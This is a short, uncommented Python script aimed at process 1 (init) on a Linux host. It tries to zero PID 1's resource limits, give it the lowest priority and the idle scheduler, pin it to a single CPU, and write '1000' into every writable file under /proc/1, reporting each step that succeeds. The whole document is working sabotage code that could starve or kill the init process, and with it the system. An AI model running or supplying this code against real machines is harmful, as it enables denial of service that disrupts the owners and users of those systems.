import os
import resource
import time

print("begun", flush=True)
for name in ("RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_STACK"):
    try:
        resource.prlimit(1, getattr(resource, name), (0, 0))
        print("limited", name)
    except OSError:
        pass
for slow in (
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.setpriority(os.PRIO_PGRP, 0, 19),
    lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
    lambda: os.sched_setaffinity(1, {0}),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
):
    try:
        slow()
        print("slowed")
    except OSError:
        pass
for folder, _, names in os.walk("/proc/1"):
    for name in names:
        try:
            os.write(os.open(os.path.join(folder, name), os.O_WRONLY | os.O_NONBLOCK), b"1000")
            print("wrote", folder, name)
        except OSError:
            pass
time.sleep(1.2)
print("ended")
